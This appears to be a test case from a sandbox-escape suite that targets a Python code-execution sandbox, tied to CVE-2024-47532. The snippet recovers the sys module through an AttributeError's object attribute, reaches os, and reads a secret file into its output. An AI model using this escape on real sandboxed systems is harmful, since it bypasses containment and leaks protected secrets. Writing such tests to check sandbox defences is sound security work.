# class: exceptions and frames
# technique: an AttributeError keeps the object whose attribute was missing
# advisory: CVE-2024-47532
# layers: analyzer, interpreter, landlock, seccomp, identity
# code: user
# witness: secret
host = _items[0]["json"]
try:
    quit.__init__.__globals__["sys"].nothing
except AttributeError as error:
    g = {"sys": error.obj}
os = g["sys"].modules["os"]
return [{"json": {"reached": os.read(os.open(host["secret"], 0), 4096).decode()}}]
